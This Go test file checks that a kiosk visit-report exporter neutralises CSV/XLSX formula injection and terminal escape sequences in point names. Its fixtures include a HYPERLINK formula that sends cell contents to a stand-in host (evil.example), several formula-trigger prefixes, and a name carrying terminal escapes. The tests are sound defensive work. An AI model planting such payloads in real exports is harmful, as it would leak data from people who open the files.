package visits

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"kiosk/config"
)

// Names a points file or a USB stick's export may carry: formulas that
// Excel and WPS would run from a CSV cell, and terminal escapes.
var (
	formulaNames = []string{
		`=HYPERLINK("http://evil.example/?d="&A1,"点我")`,
		"+1+1",
		"-2+3",
		"@SUM(A1:A9)",
		"\t=1+1",
		"\r=1+1",
		" =1+1",
	}
	escapeName = "张家镇\x1b]0;pwned\a\x1b[2J\u202e查阅点"
)

// hostileReport merges a real export with a points list naming the
// points as above; a label is a formula too.
func hostileReport(t *testing.T) *Report {
	t.Helper()
	a := kioskExport(t, testCounty, 2026, d(1, 5, 9), d(2, 1, 9))
	expected := []config.Point{{ID: testCounty.ID, Name: escapeName, Level: config.LevelCounty}}
	for i, n := range formulaNames {
		expected = append(expected, config.Point{ID: "p" + string(rune('a'+i)), Name: n, Level: config.LevelTownship})
	}
	labels := testLabels
	labels.Township = "=乡镇"
	r, err := Merge([]Input{in("a.json", a)}, MergeOptions{Labels: labels, Expected: expected, Now: genNow})
	must(t, err)
	return r
}

// formulaStart reports a cell a spreadsheet would read as a formula (or
// whose leading blank hides one).
func formulaStart(s string) bool {
	s = strings.TrimLeft(s, " \t\r\n")
	return s != "" && strings.ContainsRune("=+-@", rune(s[0])) || s != "" && s != strings.TrimLeft(s, "\t\r")
}

func TestCSVCellsAreNeverFormulas(t *testing.T) {
	r := hostileReport(t)
	out := render(t, r, FormatCSV)
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\ufeff"))))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	must(t, err)
	names := map[string]bool{}
	for _, rec := range recs {
		for _, f := range rec {
			if formulaStart(f) || strings.ContainsAny(f, "\t\r") {
				t.Errorf("cell %q would run as a formula", f)
			}
			names[f] = true
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?d="&A1,"点我")`, "'+1+1", "'-2+3", "'@SUM(A1:A9)", "' =1+1", "'=乡镇", "(二)=乡镇"} {
		if !names[want] {
			t.Errorf("no cell %q: the name is not kept (with a quote in front)", want)
		}
	}
	// Counts stay numbers: the total row is "查阅点接待人数,8,2,1,0,…,3".
	for _, rec := range recs {
		if len(rec) > 3 && rec[0] == RowTotal {
			if rec[1] != "8" || rec[2] != "1" || rec[len(rec)-1] != "2" {
				t.Errorf("total row %q", rec)
			}
		}
	}
}

func TestXLSXTextIsNeverAFormula(t *testing.T) {
	r := hostileReport(t)
	f, err := excelize.OpenReader(bytes.NewReader(render(t, r, FormatXLSX)))
	must(t, err)
	defer f.Close()
	rows, err := f.GetRows(SheetPoints)
	must(t, err)
	found := 0
	for i, row := range rows {
		for j, v := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fm, _ := f.GetCellFormula(SheetPoints, cell); fm != "" {
				t.Errorf("%s holds the formula %q", cell, fm)
			}
			if v == formulaNames[0] {
				found++
				if typ, _ := f.GetCellType(SheetPoints, cell); typ != excelize.CellTypeSharedString {
					t.Errorf("%s %q is of type %v, not a string", cell, v, typ)
				}
			}
		}
	}
	if found != 1 {
		t.Errorf("the formula-like name is in %d cells, want 1, as written (a text cell needs no quote)", found)
	}
	total, _ := f.GetCellValue(SheetSummary, "O3")
	if typ, _ := f.GetCellType(SheetSummary, "O3"); total != "2" || typ == excelize.CellTypeSharedString {
		t.Errorf("total O3 %q of type %v: counts must stay numbers", total, typ)
	}
}

// What a report shows (CSV, Markdown, XLSX) holds no terminal escape even
// when a name does; the JSON exchange keeps the name exactly, escaped, so
// a merge of it gives the name back.
func TestReportsCarryNoTerminalEscapes(t *testing.T) {
	r := hostileReport(t)
	for _, f := range []Format{FormatCSV, FormatMarkdown, FormatJSON} {
		out := render(t, r, f)
		if bytes.ContainsAny(out, "\x1b\a\u202e") {
			t.Errorf("%s output holds a raw escape: %q", f, out)
		}
		if f != FormatJSON && !bytes.Contains(out, []byte("张家镇查阅点")) {
			t.Errorf("%s output lost the name's text", f)
		}
	}
	dump := xlsxDump(t, render(t, r, FormatXLSX))
	if bytes.ContainsAny(dump, "\x1b\a\u202e") || !bytes.Contains(dump, []byte("张家镇查阅点")) {
		t.Errorf("xlsx: %q", dump)
	}
	again, err := Merge([]Input{in("district.json", render(t, r, FormatJSON))}, MergeOptions{Labels: testLabels, Now: func() time.Time { return genTime }})
	must(t, err)
	for _, p := range again.Points {
		if p.ID == testCounty.ID && p.Name != escapeName {
			t.Errorf("the JSON export changed the name: %q", p.Name)
		}
	}
}

// The export writer's hand-made fast path writes each visit exactly as
// encoding/json writes VisitJSON, the type readers and the hub decode.
func TestExportVisitLineIsVisitJSON(t *testing.T) {
	tz := time.FixedZone("CST", 8*3600)
	rec := VisitRecord{ID: "0b6f3c1e-9a59-4d3e-8a49-5f1d8d8c0a11", Point: "p-01", Start: time.Date(2026, 3, 4, 9, 5, 6, 0, tz), End: time.Date(2026, 3, 4, 9, 15, 0, 0, tz)}
	r := &Report{Year: 2026, visitCount: 1, visits: func(fn func(VisitRecord) error) error { return fn(rec) }}
	var buf bytes.Buffer
	if err := r.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	want, _ := json.Marshal(rec.JSON())
	if !bytes.Contains(buf.Bytes(), want) {
		t.Fatalf("export does not hold %s:\n%s", want, buf.String())
	}
	back, err := rec.JSON().Record()
	if err != nil || !back.Start.Equal(rec.Start) || !back.End.Equal(rec.End) || back.ID != rec.ID {
		t.Fatalf("round trip: %+v %v", back, err)
	}
}
